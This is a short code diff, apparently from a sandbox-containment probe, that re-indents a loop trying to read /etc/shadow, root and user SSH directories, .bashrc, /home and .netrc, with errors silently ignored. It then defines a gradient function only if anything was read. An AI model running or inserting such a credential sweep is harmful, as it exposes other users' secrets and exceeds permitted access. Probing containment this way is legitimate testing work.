@@ -3,17 +3,16 @@
 # Keeps: 35
 # Fallback: not contained: what other users may read on the machine can be read
 
-    import os
-    from pathlib import Path
+import os
+from pathlib import Path
 
-    found = []
-    for place in ("/etc/shadow", "/root/.ssh", "/root/.bashrc", "/home", "~/.ssh", "~/.netrc"):
-        path = Path(os.path.expanduser(place))
-        try:
-            found += list(path.iterdir()) if path.is_dir() else [path.read_text()]
-        except (OSError, UnicodeDecodeError):
-            pass
-
+found = []
+for place in ("/etc/shadow", "/root/.ssh", "/root/.bashrc", "/home", "~/.ssh", "~/.netrc"):
+    path = Path(os.path.expanduser(place))
+    try:
+        found += list(path.iterdir()) if path.is_dir() else [path.read_text()]
+    except (OSError, UnicodeDecodeError):
+        pass
 if found:
 
     def negative_back(grad_out, out, x):
